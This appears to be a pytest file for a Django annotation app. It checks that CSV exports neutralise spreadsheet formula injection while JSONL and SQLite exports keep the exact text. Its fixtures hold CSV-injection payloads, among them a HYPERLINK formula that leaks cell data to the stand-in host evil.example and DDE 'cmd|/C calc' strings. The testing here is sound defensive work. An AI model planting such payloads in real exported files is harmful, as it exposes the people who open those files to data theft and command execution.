"""Review finding 5 (adversarial review): CSV formula injection in exports.

Free text that participants control (a game round's reason, a crowd-platform id) must not
reach a spreadsheet as a formula: every CSV text cell that starts with ``= + - @``, a tab or
a carriage return gets a leading ``'`` (OWASP's rule). Numeric cells stay numbers, so a
negative number is still data; JSONL and the SQLite dump keep the exact text.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile

import pytest
from django.test import Client
from rest_framework.test import APIClient

from annotation.models import Response
from annotation.services.authoring.studies import load_study_file
from annotation.services.exports.export import export_study
from tests.game_helpers import boundary_study_file, play_round, play_via_services, start_game

pytestmark = pytest.mark.django_db

REASONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|"/C calc"!A0',
]
PLATFORM_ID = '=HYPERLINK("http://evil.example/?leak="'
MORE_STARTS = ["-2+3", "\tTAB", "\rCR", "plain"]


@pytest.fixture
def played(superuser, enrolled):
    """alice-boundary: three rounds played over HTTP with the report's reasons, one player
    whose crowd id is a formula, and text and numbers starting with '-' in the provenance."""
    data = boundary_study_file(slug="alice-boundary", items=4, items_per_session=1, annotations_per_item=1)
    for item, text in zip(data["items"], MORE_STARTS, strict=True):
        item["provenance"] = {"system": text, "seed": -3}
    study = load_study_file(data, owner=superuser).study
    for reason in REASONS:
        client = Client()
        start_game(client, study.slug)
        play_round(client, study.slug, mark=5, reason=reason)
    crowd_player = enrolled(study, source="prolific", platform_worker_id=PLATFORM_ID)
    assert play_via_services(crowd_player, study, lambda boundary, length: 5) is not None
    Response.objects.filter(study=study).update(points=-3)  # a negative number is data
    return study


def _download(admin, body: dict, capture) -> bytes:
    client = APIClient()
    client.force_authenticate(admin)
    with capture(execute=True):
        started = client.post("/api/v1/studies/alice-boundary/exports/", body, format="json")
    assert started.status_code == 202, started.content
    status = client.get(f"/api/v1/studies/alice-boundary/exports/{started.json()['id']}/").json()
    assert status["status"] == "done", status
    return b"".join(client.get(status["download"]).streaming_content)


def test_csv_cells_that_start_a_formula_are_neutralised(
    superuser, played, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORT_DIR = tmp_path
    body = {"format": "csv", "include_platform_ids": True}
    rows = list(
        csv.DictReader(io.StringIO(_download(superuser, body, django_capture_on_commit_callbacks).decode()))
    )
    reasons = [row["answer.reason"] for row in rows if row["answer.reason"] != "A guess."]
    assert sorted(reasons) == sorted("'" + reason for reason in REASONS)
    assert "'" + PLATFORM_ID in {row["platform_worker_id"] for row in rows}
    systems = {row["provenance.system"] for row in rows}
    assert systems == {"'-2+3", "'\tTAB", "'\rCR", "plain"}
    for row in rows:
        assert row["provenance.seed"] == "-3" and float(row["points"]) == -3  # numbers stay numbers
        assert json.loads(row["answer"])["reason"] in [*REASONS, "A guess."]  # JSON cells stay exact
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (value, row)


def test_jsonl_and_sqlite_keep_the_exact_text(played, tmp_path):
    lines = [
        json.loads(line)
        for line in export_study(played, fmt="jsonl", path=tmp_path / "x.jsonl", include_platform_ids=True)
        .path.read_text()
        .splitlines()
    ]
    assert sorted(line["answer.reason"] for line in lines if line["answer.reason"] != "A guess.") == sorted(
        REASONS
    )
    assert PLATFORM_ID in {line["platform_worker_id"] for line in lines}
    assert {line["provenance.system"] for line in lines} <= set(MORE_STARTS)
    assert {line["points"] for line in lines} == {-3}
    export_study(played, fmt="sqlite", path=tmp_path / "x.zip", include_platform_ids=True)
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        archive.extractall(tmp_path)
    database = sqlite3.connect(tmp_path / "alice-boundary.sqlite")
    reasons = {row[0] for row in database.execute("SELECT json_extract(answer, '$.reason') FROM responses")}
    assert set(REASONS) <= reasons
    ids = {row[0] for row in database.execute("SELECT platform_worker_id FROM participants")}
    assert PLATFORM_ID in ids


def test_one_rule_in_python_and_in_sql():
    """The Python rule and its SQL twin agree on every start character and on numbers."""
    from django.db import connection

    from annotation.services.exports.columns import neutralise
    from annotation.services.exports.selects import dialect

    samples = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "", "'already", " =spaced", "1-2"]
    neutral = dialect().render("s.v", "text", "csv")
    for sample in samples:
        with connection.cursor() as cursor:
            cursor.execute(f"SELECT {neutral} FROM (SELECT %s AS v) s", [sample])  # noqa: S608 - our SQL
            assert cursor.fetchone()[0] == neutralise(sample), sample
    assert neutralise("-3") == "'-3" and neutralise("3") == "3"
